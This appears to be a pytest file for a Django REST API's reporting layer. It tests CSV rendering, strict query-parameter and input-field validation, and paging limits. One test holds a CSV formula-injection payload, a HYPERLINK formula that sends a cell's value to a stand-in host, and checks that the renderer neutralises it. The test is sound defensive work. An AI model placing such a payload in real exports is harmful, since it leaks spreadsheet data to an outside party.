"""core.api's reporting pieces: the CSV renderer and the refusal of unknown query parameters."""

from __future__ import annotations

import csv
import io

import pytest
from rest_framework.exceptions import ValidationError
from rest_framework.request import Request
from rest_framework.test import APIRequestFactory

from core.api import CsvRenderer, check_query_parameters


def _rows(data) -> list[dict]:
    return list(csv.DictReader(io.StringIO(CsvRenderer().render(data).decode())))


def test_a_page_renders_its_results_with_dotted_columns_and_json_lists():
    page = {"count": 2, "next": None, "previous": None, "results": [
        {"id": 1, "leg": {"symbol": "BTCUSDT", "qty": "0.5"}, "orders": [{"id": 7}]},
        {"id": 2, "leg": {"symbol": "ETHUSDT", "qty": "3"}, "orders": [], "extra": "x"},
    ]}
    rows = _rows(page)
    assert rows == [
        {"id": "1", "leg.symbol": "BTCUSDT", "leg.qty": "0.5", "orders": '[{"id": 7}]', "extra": ""},
        {"id": "2", "leg.symbol": "ETHUSDT", "leg.qty": "3", "orders": "[]", "extra": "x"},
    ]


def test_an_object_is_one_row():
    assert _rows({"detail": "Not found."}) == [{"detail": "Not found."}]


def test_unknown_query_parameters_are_named():
    request = Request(APIRequestFactory().get("/x/", {"symbol": "BTCUSDT", "limit": "5", "sybmol": "ETH", "zz": "1"}))
    with pytest.raises(ValidationError) as refused:
        check_query_parameters(request, ("symbol",))
    assert refused.value.detail == {"sybmol": ["unknown query parameter"], "zz": ["unknown query parameter"]}
    check_query_parameters(Request(APIRequestFactory().get("/x/", {"symbol": "A", "offset": "0"})), ("symbol",))


def test_text_a_spreadsheet_would_run_as_a_formula_is_quoted_and_numbers_stay_numbers():
    rows = _rows([{"reason": '=HYPERLINK("http://evil.example/?d="&B2,"details")', "pnl": "-12.50"},
                  {"reason": "@SUM(A1:A9)", "pnl": "+3"}, {"reason": "-x", "pnl": "-1e-05"},
                  {"reason": "daily loss -3 %", "pnl": "0"}])
    assert [r["reason"] for r in rows] == ['\'=HYPERLINK("http://evil.example/?d="&B2,"details")', "'@SUM(A1:A9)",
                                           "'-x", "daily loss -3 %"]
    assert [r["pnl"] for r in rows] == ["-12.50", "+3", "-1e-05", "0"]


@pytest.mark.django_db
@pytest.mark.parametrize(("query", "named"), [("limit=abc", "limit"), ("limit=-5", "limit"), ("limit=0", "limit"),
                                              ("limit=1.5", "limit"), ("offset=abc", "offset"),
                                              ("offset=-1", "offset"), ("limit=10&offset=3x", "offset")])
@pytest.mark.parametrize("path", ["trades", "pairs", "halts", "pnl/daily"])
def test_a_limit_or_offset_that_is_no_whole_number_is_a_400_naming_it(api_client, path, query, named):
    response = api_client.get(f"/api/v1/{path}/?{query}")
    assert response.status_code == 400, response.content
    assert list(response.json()) == [named]


@pytest.mark.django_db
def test_a_valid_limit_and_offset_still_page_and_a_huge_one_is_bounded(api_client):
    from tests.factories import HaltFactory

    halts = [HaltFactory().pk for _ in range(3)]
    assert [r["id"] for r in api_client.get("/api/v1/halts/?limit=1&offset=1").json()["results"]] == [halts[1]]
    assert len(api_client.get("/api/v1/halts/?limit=" + "9" * 40).json()["results"]) == 3  # at most max_limit
    assert api_client.get("/api/v1/halts/?offset=" + "9" * 40).json()["results"] == []
    assert len(api_client.get("/api/v1/halts/?limit=&offset=").json()["results"]) == 3  # empty: the defaults


class _GuardEventsView:
    """What the renderer asks of a list view: its serializer."""

    def get_serializer(self):
        from risk.api import GuardEventListApi

        return GuardEventListApi.GuardEventListOutputSerializer()


def test_free_form_json_is_one_cell_so_the_columns_stay_the_same_page_after_page():
    context = {"view": _GuardEventsView()}
    first = [{"id": 1, "created_at": "x", "account": 1, "kind": "k", "severity": "warning", "message": "m",
              "details": {"loss": "12.5", "limit": {"daily": "10"}}}]
    second = [{"id": 2, "created_at": "x", "account": 1, "kind": "k", "severity": "warning", "message": "m",
               "details": {"orders": [1, 2]}}, {"id": 3, "created_at": "x", "account": None, "kind": "k",
                                                 "severity": "info", "message": "m", "details": None}]
    pages = [CsvRenderer().render(page, renderer_context=context).decode() for page in (first, second, [])]
    headers = {page.splitlines()[0] for page in pages}
    assert headers == {"id,created_at,account,account_name,kind,severity,message,details"}
    rows = list(csv.DictReader(io.StringIO(pages[0]))) + list(csv.DictReader(io.StringIO(pages[1])))
    assert [r["details"] for r in rows] == ['{"limit": {"daily": "10"}, "loss": "12.5"}', '{"orders": [1, 2]}', ""]


@pytest.mark.django_db
def test_guard_events_csv_has_fixed_columns_whatever_their_details(api_client):
    from tests.factories import GuardEventFactory

    GuardEventFactory(details={"loss": "12.5"})
    GuardEventFactory(details={"orders": [1, 2], "symbol": "BTCUSDT"})
    for limit_offset in ("limit=1&offset=0", "limit=1&offset=1"):
        text = api_client.get(f"/api/v1/guard-events/?format=csv&{limit_offset}").content.decode()
        assert text.splitlines()[0] == "id,created_at,account,account_name,kind,severity,message,details"


def test_an_api_write_refuses_a_field_it_does_not_know():
    from rest_framework import serializers

    from core.api import StrictInputSerializer

    class Input(StrictInputSerializer):
        account = serializers.CharField(required=False)

    typo = Input(data={"acount": "main", "account": "x"})
    assert not typo.is_valid()
    assert typo.errors == {"acount": ["unknown field (this takes account)"]}
    assert Input(data={"account": "x", "csrfmiddlewaretoken": "t"}).is_valid()
